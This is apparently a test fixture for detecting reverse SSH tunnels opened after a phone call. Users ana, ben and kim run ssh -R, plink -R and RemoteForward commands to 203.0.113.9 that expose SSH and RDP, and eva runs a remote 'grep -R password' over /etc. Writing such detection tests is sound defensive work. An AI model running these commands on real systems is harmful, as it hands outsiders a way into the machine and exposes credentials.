# A port over there that leads back in here. What runs over there is no option of ssh, and -L only
# leads out.
person ana
person ben
person eva
person kim
10:02 ana call-in +442079460031 14m
10:11 ana shell "ssh -i key -fNR 2222:localhost:22 help@203.0.113.9"
expect: ana says="A way in through a tunnel of SSH was switched on by command"
10:02 ben call-in +442079460032 14m
10:11 ben run C:\Tools\plink.exe cmd="C:\Tools\plink.exe -P 443 help@203.0.113.9 -R 3389:127.0.0.1:3389"
expect: ben says="A way in through a tunnel of SSH was switched on by command"
10:02 eva call-in +442079460033 14m
10:11 eva shell "ssh -L 8080:localhost:80 web@203.0.113.9 grep -R password /etc"
expect: eva none
10:02 kim call-in +442079460034 14m
10:11 kim shell "ssh -o RemoteForward=2222:localhost:22 help@203.0.113.9"
expect: kim says="A way in through a tunnel of SSH was switched on by command"
